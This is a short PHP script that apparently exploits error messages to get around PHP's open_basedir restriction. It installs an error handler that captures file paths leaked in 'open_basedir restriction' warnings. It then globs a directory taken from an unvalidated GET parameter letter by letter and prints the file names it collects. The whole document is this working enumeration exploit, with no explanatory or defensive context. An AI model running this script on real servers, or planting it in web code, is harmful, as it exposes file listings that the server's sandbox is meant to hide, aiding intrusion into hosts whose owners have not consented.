<?php
$names = array();
function oracle($no, $msg) {
    global $names;
    if (preg_match("/open_basedir\ restriction.*File\((.*)\)/", $msg, $m)) $names[] = $m[1];
}
set_error_handler("oracle");
foreach (range('a', 'z') as $c) { glob($_GET['d'] . '/' . $c . '*'); }
print_r($names);
